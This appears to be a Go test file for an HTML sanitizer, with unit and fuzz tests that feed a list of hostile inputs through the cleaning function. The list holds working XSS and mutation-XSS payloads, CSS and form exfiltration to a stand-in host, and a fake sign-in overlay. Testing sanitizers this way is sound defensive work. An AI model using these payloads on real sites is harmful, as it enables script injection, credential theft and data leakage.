package letter

import (
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"golang.org/x/net/html"
)

// harm names what in a cleaned page could run, leak, or pretend; "" for none.
func harm(t testing.TB, page string) string {
	t.Helper()
	doc, err := html.Parse(strings.NewReader("<!doctype html><html><body>" + page + "</body></html>"))
	if err != nil {
		return ""
	}
	for n := range doc.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		if slices.Contains([]string{"script", "style", "link", "meta", "base", "form", "input", "button", "select", "textarea", "iframe", "frame", "object", "embed", "svg", "math", "video", "audio", "source", "template", "dialog", "portal"}, n.Data) {
			return "element " + n.Data
		}
		for _, a := range n.Attr {
			value := strings.ToLower(strings.Join(strings.Fields(a.Val), ""))
			switch {
			case strings.HasPrefix(a.Key, "on"), a.Key == "srcset", a.Key == "background", a.Key == "id", a.Key == "class", a.Key == "name":
				return "attribute " + a.Key
			case (a.Key == "href" || a.Key == "src") && (strings.HasPrefix(value, "javascript:") || strings.HasPrefix(value, "vbscript:") || strings.HasPrefix(value, "data:text")):
				return a.Key + " " + value
			case a.Key == "src" && (strings.HasPrefix(value, "http") || strings.HasPrefix(value, "//")):
				return "remote " + value
			case a.Key == "style" && (strings.Contains(value, "url(") || strings.Contains(value, "position") || strings.Contains(value, "expression") || strings.Contains(value, "@import")):
				return "style " + value
			}
		}
	}
	return ""
}

var hostile = []string{
	`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<a href="javascript:alert(1)">x</a>`, `<a href="jav&#x09;ascript:alert(1)">x</a>`,
	`<svg><script>alert(1)</script></svg>`, `<math><mi xlink:href="javascript:alert(1)">x</mi></math>`, `<svg/onload=alert(1)>`,
	`<style>@import url(https://spy.example/x.css);</style>`, `<p style="background:url(https://spy.example/x)">x</p>`, `<p style="background-image:url('https://spy.example')">x</p>`,
	`<link rel=stylesheet href="https://spy.example/x.css">`, `<meta http-equiv=refresh content="0;url=https://spy.example">`, `<base href="https://spy.example/">`,
	`<form action="https://spy.example"><input name=password><button>Sign in</button></form>`, `<iframe src="https://spy.example"></iframe>`, `<object data="x.swf"></object>`,
	`<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">Ebbe: please sign in again</div>`, `<div style="position: absolute; inset: 0">x</div>`,
	`<img srcset="https://spy.example/a 1x">`, `<table background="https://spy.example/a"><tr><td>x</td></tr></table>`, `<video src="https://spy.example/v" autoplay></video>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`, `<p title="--><script>alert(1)</script>">x</p>`, `<!--<img src="--><img src=x onerror=alert(1)//">`,
	`<img src="//spy.example/x.gif">`, `<img src="/api/letters/1/original">`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<details open ontoggle=alert(1)>x</details>`,
	`<input onfocus=alert(1) autofocus>`, `<font face="x;background:url(https://spy.example)">x</font>`, `<p id="root" class="deck">x</p>`, `<template><script>alert(1)</script></template>`,
	`<img src="data:text/html,<script>1</script>">`, `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>`,
	"<scr\x00ipt>alert(1)</scr\x00ipt>", `<p style="width:expression(alert(1))">x</p>`, `<svg><style><img src=x onerror=alert(1)></style></svg>`,
}

func TestHostileHTMLIsMadeHarmless(t *testing.T) {
	for _, source := range hostile {
		for _, around := range []string{source, "<div><p>before " + source + " after", "<table><tr><td>" + source} {
			shown := Clean(around, false, func(string) string { return "" })
			assert.Empty(t, harm(t, shown.HTML), "%s\n%s", around, shown.HTML)
		}
	}
}

func FuzzClean(f *testing.F) {
	for _, source := range hostile {
		f.Add(source)
	}
	f.Fuzz(func(t *testing.T, source string) {
		shown := Clean(source, false, func(string) string { return "" })
		if found := harm(t, shown.HTML); found != "" {
			t.Errorf("%s in %q from %q", found, shown.HTML, source)
		}
	})
}
